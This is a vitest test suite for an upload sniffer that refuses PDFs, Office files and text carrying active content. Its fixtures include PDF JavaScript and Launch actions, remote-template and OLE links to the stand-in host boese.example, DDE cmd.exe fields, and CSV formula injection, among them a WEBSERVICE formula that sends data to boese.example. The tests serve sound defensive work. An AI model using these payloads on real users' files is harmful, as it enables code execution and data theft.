import { deflateSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { sniff } from "./sniff.ts";

/** What somebody reads who tries to upload it. */
async function refusalOf(name: string, bytes: Uint8Array | string): Promise<string | null> {
  const sniffed = await sniff(name, typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes);
  return sniffed.ok ? null : sniffed.refusal;
}

const aPdf = (...objects: string[]) => `%PDF-1.7\n${objects.join("\n")}\ntrailer << /Root 1 0 R >>\n%%EOF`;
const aStream = (dictionary: string, body: Buffer) => `9 0 obj << ${dictionary} /Length ${body.length} >> stream\n${body.toString("latin1")}\nendstream endobj`;
const packed = (text: string) => deflateSync(Buffer.from(text, "latin1"));
const anObjectStream = (head: string, objects: string) => aStream(`/Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode`, packed(`${head}${objects}`));

describe("A PDF is refused", () => {
  test.each([
    ["that runs a script", aPdf("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")],
    ["that hides the script's name in codes", aPdf("1 0 obj << /OpenAction 2 0 R >> endobj", "2 0 obj << /S /J#61vaScrip#74 /JS (x) >> endobj")],
    ["that hides the script in a compressed object stream", aPdf(anObjectStream("5 0 ", "<< /S /JavaScript /JS (x) >>"))],
    ["that does not call its object stream one", aPdf(aStream("/N 1 /First 4 /Filter /FlateDecode", packed("5 0 << /S /JavaScript >>")))],
    ["whose string pretends that its object stream begins later", aPdf(aStream("/First 4 /X (obj) /Filter /FlateDecode", packed("5 0 << /S /JavaScript >>")))],
    ["that hides the script in a stream that nobody calls a stream of objects", aPdf(aStream("/X 1", Buffer.from("5 0 obj << /S /JavaScript >>")))],
    ["that starts a program", aPdf("2 0 obj << /S /Launch /F (cmd.exe) >> endobj")],
    ["that carries other files", aPdf("1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj")],
    ["that carries a file as a note", aPdf("1 0 obj << /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >> endobj")],
    ["that sends its form away", aPdf("2 0 obj << /S /SubmitForm /F (https://boese.example) >> endobj")],
    ["that opens another computer's file", aPdf("2 0 obj << /S /GoToR /F (\\\\boese.example\\x) >> endobj")],
    ["that is a form of programs", aPdf("1 0 obj << /AcroForm << /XFA [(x) 3 0 R] >> >> endobj")],
    ["that opens an address by itself", aPdf("1 0 obj << /OpenAction << /S /URI /URI (https://boese.example) >> >> endobj")],
    ["that opens an address by itself, out of sight", aPdf("1 0 obj << /OpenAction 5 0 R >> endobj", anObjectStream("5 0 ", "<< /S /URI /URI (https://x) >>"))],
    ["whose later edition opens an address", aPdf("1 0 obj << /OpenAction 5 0 R >> endobj", "5 0 obj [3 0 R /Fit] endobj", "5 0 obj << /S /URI >> endobj")],
    ["whose opening action is nowhere to be found", aPdf("1 0 obj << /OpenAction 7 0 R >> endobj")],
  ])("%s", async (_, pdf) => expect(await refusalOf("a.pdf", pdf)).toBe("active-content"));

  test("that is encrypted, because nobody can look into it", async () => {
    expect(await refusalOf("a.pdf", aPdf("trailer << /Encrypt 8 0 R >>"))).toBe("encrypted");
  });

  test("whose object streams are packed in a way that no program uses", async () => {
    expect(await refusalOf("a.pdf", aPdf(aStream("/Type /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", packed("x"))))).toBe("broken");
  });

  test("that unpacks to more than it could need", async () => {
    expect(await refusalOf("a.pdf", aPdf(anObjectStream("", " ".repeat(70 * 1024 * 1024))))).toBe("zip-bomb");
  });
});

describe("A PDF is taken", () => {
  test.each([
    ["that opens at a page", aPdf("1 0 obj << /OpenAction [3 0 R /Fit] >> endobj")],
    ["that opens at a page by reference, as LaTeX writes it", aPdf("1 0 obj << /OpenAction 5 0 R >> endobj", "5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj")],
    ["that opens at a page by reference, out of sight", aPdf("1 0 obj << /OpenAction 5 0 R >> endobj", anObjectStream("5 0 ", "<< /S /GoTo /D [3 0 R] >>"))],
    ["with links that a person clicks", aPdf("2 0 obj << /S /URI /URI (https://ellerland.example) >> endobj")],
    [
      "with an outline and compressed pages",
      aPdf("6 0 obj << /Type /Outlines /First 7 0 R >> endobj", aStream("/Filter /FlateDecode", packed("BT (Hallo) Tj ET"))),
    ],
    ["whose picture happens to hold our short names", aPdf(aStream("/Subtype /Image", Buffer.from("\x01/XFA \x02/EF <")))],
  ])("%s", async (_, pdf) => expect(await refusalOf("a.pdf", pdf)).toBeNull());

  test("or refused, but never thought about for long, however it is built", { timeout: 30_000 }, async () => {
    const hostile = [
      aPdf("/OpenAction 1 0 R ".repeat(400_000)),
      aPdf("stream\n".repeat(1_000_000)),
      aPdf("stream\nx endstream /First ".repeat(300_000)),
      aPdf("1 0 obj ".repeat(1_000_000), "/OpenAction 1 0 R"),
      aPdf("1".repeat(5_000_000), "/OpenAction 1 0 R"),
      aPdf("#41".repeat(5_000_000)),
      aPdf(`/OpenAction ${" ".repeat(5_000_000)}`),
      aPdf(anObjectStream("1 0 ".repeat(1_000_000), "<<>>"), "/OpenAction 1 0 R"),
    ];
    const refusals = [];
    for (const pdf of hostile) refusals.push(await refusalOf("a.pdf", pdf));
    expect(refusals).toHaveLength(hostile.length);
  });
});

type Parts = Record<string, string | Uint8Array>;
const pack = (parts: Parts) =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part])));
const office = (main: string, parts: Parts) => pack({ "[Content_Types].xml": "<Types/>", [main]: "<x/>", ...parts });
const word = (parts: Parts) => office("word/document.xml", parts);
const excel = (parts: Parts) => office("xl/workbook.xml", parts);
const relation = (kind: string, target: string, mode = "External") =>
  `<Relationships xmlns="r"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const settings = (target: string) => word({ "word/_rels/settings.xml.rels": relation("attachedTemplate", target) });
const text = (body: string) => word({ "word/document.xml": `<w:document xmlns:w="w">${body}</w:document>` });

describe("An Office document is refused", () => {
  test.each([
    ["whose template lies in the internet", settings("https://boese.example/a.dotm")],
    ["whose template lies in the internet by way of a share", settings("file:///\\\\boese.example\\a.dotm")],
    ["whose template's address is written in codes", settings("%68ttps://boese.example/a.dotm")],
    ["whose relations say so in another spelling", word({ "word/_rels/settings.xml.rels": relation("attached&#84;emplate", "https://boese.example/a.dotm") })],
    ["whose relations are written in UTF-16", word({ "word/_rels/x.rels": Buffer.from(`\ufeff${relation("frame", "https://boese.example")}`, "utf16le") })],
    ["that loads a picture from elsewhere", word({ "word/_rels/document.xml.rels": relation("image", "https://boese.example/pixel.png") })],
    ["that loads an object from elsewhere", word({ "word/_rels/document.xml.rels": relation("oleObject", "https://boese.example/x.hta") })],
    ["with an OLE object", word({ "word/embeddings/oleObject1.bin": "x" })],
    ["with an ActiveX control", word({ "word/activeX/activeX1.xml": "<x/>" })],
    ["that starts a program", text("<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>")],
    ["that starts a program with its name cut in pieces", text("<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>")],
    ["that starts a program from a simple field", text('<w:fldSimple w:instr=" dde cmd "/>')],
    ["that starts a program from a part with another name", word({ "word/elsewhere.bin": '<w:x xmlns:w="w"><w:instrText>DDE cmd</w:instrText></w:x>' })],
    ["that starts a program from a sheet", excel({ "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>' })],
    ["that fetches data as it opens", excel({ "xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>' })],
    ["that holds a workbook that starts a program", word({ "word/embeddings/Microsoft_Excel.xlsx": excel({ "xl/x.xml": "<x><ddeLink/></x>" }) })],
    [
      "that holds a document in a document in a document",
      word({ "word/embeddings/a.docx": word({ "word/embeddings/b.docx": word({ "word/embeddings/c.docx": word({}) }) }) }),
    ],
  ])("%s", async (_, bytes) => expect(await refusalOf("a.docx", bytes)).toBe("active-content"));

  test.each([
    ["macros of the old kind", excel({ "xl/macrosheets/sheet1.xml": "<x/>" })],
    ["macros in a workbook inside", word({ "word/embeddings/a.xlsx": excel({ "xl/vbaProject.bin": "x" }) })],
  ])("with %s", async (_, bytes) => expect(await refusalOf("a.xlsx", bytes)).toBe("macro-file"));

  test.each([
    ["are no XML", word({ "word/_rels/x.rels": "<Relationships" })],
    ["name a document type", word({ "word/_rels/x.rels": '<!DOCTYPE x [<!ENTITY y "z">]><Relationships/>' })],
  ])("whose relations %s", async (_, bytes) => expect(await refusalOf("a.docx", bytes)).toBe("broken"));
});

describe("An Office document is taken", () => {
  test.each([
    ["with links that a person clicks", word({ "word/_rels/document.xml.rels": relation("hyperlink", "https://ellerland.example") })],
    ["with a template on the writer's disk", settings("file:///C:\\Users\\albers\\Normal.dotm")],
    ["with a template of the house", settings("file:///\\\\fileserver\\vorlagen\\brief.dotx")],
    ["with a template by name", settings("Normal.dotm")],
    ["with pictures inside", word({ "word/_rels/document.xml.rels": relation("image", "media/image1.png", "Internal") })],
    ["with a chart and its workbook", word({ "word/embeddings/Microsoft_Excel.xlsx": excel({}) })],
    ["with page numbers and the word DDEB in a text", text('<w:instrText> PAGE </w:instrText><w:t>DDE</w:t><w:fldSimple w:instr=" NUMPAGES "/>')],
    ["with links to other workbooks", excel({ "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "Kosten.xlsx") })],
  ])("%s", async (_, bytes) => expect(await refusalOf("a.docx", bytes)).toBeNull());
});

describe("Text", () => {
  test.each([
    ["a page", "a.txt", "<!doctype html><p>Hallo"],
    ["a page after a comment", "a.csv", "\n<!-- x --><html>"],
    ["a drawing", "a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ["a drawing as XML", "a.txt", '<?xml version="1.0"?><svg/>'],
    ["a script in the middle", "a.txt", "Hallo <script>alert(1)</script>"],
    ["a script in UTF-16", "a.txt", Buffer.from("\ufeff<script>", "utf16le")],
    ["a table that starts a program", "a.csv", "Name;Ort\n=cmd|'/C calc'!A0;x"],
    ["a table that starts a program behind a quote", "a.csv", "a,\"+cmd|'/C calc'!A0\""],
    ["a table that sends itself away", "a.csv", 'x;=WEBSERVICE("https://boese.example/"&A1)'],
  ])("that is %s is refused", async (_, name, bytes) => expect(await refusalOf(name, bytes)).toBe("active-content"));

  test("of the format RTF is refused: it can hold programs", async () => expect(await refusalOf("a.txt", "{\\rtf1 {\\object}}")).toBe("type-not-allowed"));

  test.each([
    ["a sum", "a.csv", "Kosten;=SUMME(A1:A3)\n-12;+49 4999 100"],
    ["comparisons and a list", "a.txt", "Teilnahme < 10, Alter > 18\n- Deutsch | Arabisch\n<3"],
    ["an address in angle brackets", "a.txt", "Mail: Rosa <rosa@example.org>"],
  ])("with %s is taken", async (_, name, bytes) => expect(await refusalOf(name, bytes)).toBeNull());
});
